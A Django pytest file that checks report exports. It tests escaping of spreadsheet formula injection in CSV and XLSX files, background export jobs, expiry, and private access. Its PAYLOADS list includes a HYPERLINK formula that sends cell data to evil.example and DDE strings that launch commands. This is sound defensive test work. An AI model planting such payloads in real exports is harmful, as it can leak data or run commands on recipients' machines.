"""Exports: formula injection escaped, XLSX readable, large exports in the background."""
import csv
import io
import random
from pathlib import Path

import pytest
from django.core import mail
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AuditLog, Profile
from reports.constants import ExportStatus
from reports.exports import cell_value
from reports.models import ExportJob
from reports.tasks import exports_expire
from tests.base.test_private_files import publicly_served
from tests.reports.conftest import rebuild, seed_learners

pytestmark = pytest.mark.django_db

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            # full-width and small forms, which spreadsheet programs read as the ASCII ones
            "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－2+3", "＠SUM(1+1)", "﹦1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_escaped(payload):
    assert cell_value(payload) == "'" + payload
    assert cell_value("Айгерим = лидер") == "Айгерим = лидер"
    assert cell_value(-3) == -3  # numbers stay numbers


@pytest.fixture
def world(report_world):
    w = report_world
    seed_learners([w["almaty_medeu"]], w["courses"], 12, rng=random.Random(3))
    names = iter(PAYLOADS)
    for profile in Profile.objects.filter(user__email__startswith="gen")[:len(PAYLOADS)]:
        profile.full_name = next(names)
        profile.save()
    rebuild()
    return w


def test_csv_and_xlsx_exports_escape_learner_names(client, world):
    client.force_login(world["admin_a"])
    response = client.get("/en/reports/export/?table=learners&format=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {row[0] for row in list(csv.reader(io.StringIO(text, newline="")))[1:]}
    assert {"'" + p for p in PAYLOADS} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)

    response = client.get("/en/reports/export/?table=learners&format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # (XLSX stores a carriage return as _x000D_; the escaping quote comes first either way.)
    assert {"'" + p for p in PAYLOADS if "\r" not in p} <= set(values)
    assert len({v for v in values if v.startswith("'")}) == len(PAYLOADS)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
    assert AuditLog.objects.filter(event="report_exported", actor=world["admin_a"]).count() == 2


def test_bad_export_requests_get_a_reason(client, world):
    client.force_login(world["admin_a"])
    response = client.get("/en/reports/export/?table=courses&format=pdf")
    assert response.status_code == 400 and b"csv or xlsx" in response.content
    assert client.get("/en/reports/export/?table=nonsense&format=csv").status_code == 404
    assert not AuditLog.objects.filter(event="report_exported").exists()


def test_a_large_export_runs_in_the_background(client, world, settings,
                                               django_capture_on_commit_callbacks, monkeypatch):
    monkeypatch.setattr("reports.views.EXPORT_SYNC_LIMIT", 5)
    client.force_login(world["admin_a"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get("/en/reports/export/?table=learners&format=xlsx&status=")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/en/reports/exports/{job.token}/"
    assert job.status == ExportStatus.READY and job.rows_done == job.rows_total > 5
    page = client.get(response["Location"]).content.decode()
    assert "Download (XLSX)" in page and 'http-equiv="refresh"' not in page
    with django_capture_on_commit_callbacks(execute=True):
        download = client.get(f"/en/reports/exports/{job.token}/download/")
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert sheet.max_row == job.rows_total + 1
    assert [m.to for m in mail.outbox] == [["admin.a@example.org"]]
    assert f"/en/reports/exports/{job.token}/" in mail.outbox[0].body
    assert AuditLog.objects.filter(event="report_exported").count() == 2  # asked, downloaded

    # A waiting export shows its progress and refreshes itself.
    ExportJob.objects.filter(pk=job.pk).update(status=ExportStatus.RUNNING, rows_done=3)
    page = client.get(f"/en/reports/exports/{job.token}/").content.decode()
    assert 'http-equiv="refresh"' in page and "<progress" in page and "3 of" in page
    assert client.get(f"/en/reports/exports/{job.token}/download/").status_code == 409

    # After it expires the file is deleted and the link says so.
    ExportJob.objects.filter(pk=job.pk).update(status=ExportStatus.READY,
                                               expires_at=timezone.now())
    name = job.file.name
    assert exports_expire() == 1
    job.refresh_from_db()
    assert job.status == ExportStatus.EXPIRED and not job.file.storage.exists(name)
    assert client.get(f"/en/reports/exports/{job.token}/download/").status_code == 410


def test_an_export_is_private_and_served_only_to_whoever_asked(client, settings, report_world, monkeypatch,
                                                   django_capture_on_commit_callbacks):
    seed_learners([report_world["almaty_medeu"]], report_world["courses"], 8,
                  rng=random.Random(5))
    rebuild()
    monkeypatch.setattr("reports.views.EXPORT_SYNC_LIMIT", 2)
    client.force_login(report_world["admin_a"])
    with django_capture_on_commit_callbacks(execute=True):
        client.get("/en/reports/export/?table=learners&format=csv&status=")
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.READY
    assert Path(job.file.path).is_relative_to(settings.PRIVATE_MEDIA_ROOT)
    assert not publicly_served(settings, job.file.name)

    url = f"/en/reports/exports/{job.token}/download/"
    assert client.get(url).status_code == 200
    client.force_login(report_world["admin_b"])
    assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302
